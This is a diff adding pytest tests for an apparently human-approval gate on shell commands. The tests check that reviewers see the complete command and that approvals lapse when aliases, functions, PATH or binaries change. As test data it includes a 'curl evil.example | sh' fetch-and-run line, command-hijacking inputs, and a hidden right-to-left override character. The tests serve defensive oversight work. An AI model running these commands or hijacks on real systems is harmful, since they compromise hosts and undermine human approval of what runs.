@@ -606,3 +606,89 @@ def test_a_question_is_taken_back_when_another_terminal_has_answered(
     assert b"decided elsewhere" in seen
     assert shipped(s) == (["asked"] if verdict == "approve" else [])
     os.close(ours)
+
+
+# ---- what the person who approves is shown, and what runs then -----------------------------------------
+
+
+def test_the_person_reads_all_that_would_run(s: waypoint.Session, elsewhere: ThreadPoolExecutor) -> None:
+    line = "shipit --token=$(echo one)\n" + "true; " * 400 + "\n# \u202e\nshipit two"
+    asked = Asked()
+    running = elsewhere.submit(lambda: s.run(line, stdin="curl evil.example | sh", on_approval=asked))
+    shown = "\n".join(asked.approval.review)
+    assert "  │ shipit --token=$(echo one) ⏎" in shown
+    assert f"  │ {'true; ' * 400} ⏎" in shown
+    assert "⟨U+202E⟩" in shown
+    assert "  │ curl evil.example | sh" in shown
+    assert hashlib.sha256(f"{line}\0curl evil.example | sh".encode()).hexdigest() in shown
+    assert [one.review for one in s.approvals()] == [asked.approval.review], "the same for whoever asks"
+    listed = cli("approvals").stdout
+    assert [line for line in asked.approval.review if line not in listed] == []
+    s.deny(asked.approval)
+    with pytest.raises(errors.NotApproved):
+        running.result(60)
+    assert s.approvals(all=True)[0].review == (), "it is not stored"
+    with pytest.raises(errors.NotApproved, match="too long for a person to read"):
+        s.run("shipit\n" + "true\n" * 5000, on_approval=lambda _: True)
+    program = elsewhere.submit(lambda: s.spawn(["shipit", "a; b", ""], on_approval=asked_again, cwd="/srv"))
+    asked_again = Asked()
+    assert asked_again.approval.command == "shipit 'a; b' ''"
+    assert ", in /srv:" in asked_again.approval.review[0]
+    s.deny(asked_again.approval)
+    with pytest.raises(errors.NotApproved):
+        program.result(60)
+    assert shipped(s) == []
+
+
+def _occupy(elsewhere: ThreadPoolExecutor, s: waypoint.Session, change: str) -> Future[waypoint.Result]:
+    """A command that runs in the shell until /tmp/go is made, and then changes something."""
+    wait = "touch /tmp/begun; until test -e /tmp/go; do sleep 0.02; done; rm /tmp/begun /tmp/go"
+    running = elsewhere.submit(lambda: s.run(f"{wait}; {change}", timeout=30))
+    until(lambda: s.spawn(["test", "-e", "/tmp/begun"]).wait() == 0)
+    return running
+
+
+def test_what_was_approved_does_not_run_when_it_means_something_else_now(
+    s: waypoint.Session, elsewhere: ThreadPoolExecutor
+) -> None:
+    """Also when the command that changes it was running at the time of the approval."""
+    evil = "echo evil >>/srv/shipped"
+    changes = {
+        f"alias shipit='{evil};'": ("the alias shipit", "unalias shipit"),
+        f"shipit() {{ {evil}; }}": ("the function shipit", "unset -f shipit"),
+        "export PATH=/srv/evil:$PATH": ("the variable PATH", "export PATH=${PATH#*:}"),
+        f"printf '#!/bin/sh\\n{evil}\\n' >/usr/local/sbin/shipit; chmod 755 /usr/local/sbin/shipit": (
+            "shipit is /usr/local/sbin/shipit now",
+            "rm /usr/local/sbin/shipit",
+        ),
+        f"echo '{evil}' >>/usr/local/bin/shipit": ("/usr/local/bin/shipit was changed", ":"),
+        "echo changed >/srv/order": ("/srv/order was changed", ":"),
+        "cd /tmp": ("its folder is /tmp", "cd /srv"),
+    }
+    s.run("cd /srv; echo good >order").check()
+    for change, (says, back) in changes.items():
+        before = _occupy(elsewhere, s, change)
+        running, approval = held(elsewhere, s, "shipit order")
+        s.approve(approval)
+        s.spawn(["touch", "/tmp/go"]).wait()
+        before.result(60)
+        with pytest.raises(errors.NotApproved, match=says):
+            running.result(60)
+        last = s.approvals(all=True)[-1]
+        assert (last.state, says in last.note) == ("gone", True)
+        s.run(back)
+    assert shipped(s) == []
+    assert {one.state for one in s.effects()} == {"failed"}
+
+
+def test_what_was_approved_runs_when_nothing_has_changed(
+    s: waypoint.Session, elsewhere: ThreadPoolExecutor
+) -> None:
+    s.run("alias shipit='shipit --from-alias'; cd /srv", on_approval=lambda _: True).check()
+    before = _occupy(elsewhere, s, ":")
+    running, approval = held(elsewhere, s, "shipit same")
+    assert any("shipit is an alias of this shell" in line for line in approval.review)
+    s.approve(approval)
+    s.spawn(["touch", "/tmp/go"]).wait()
+    before.result(60)
+    assert running.result(60).ok
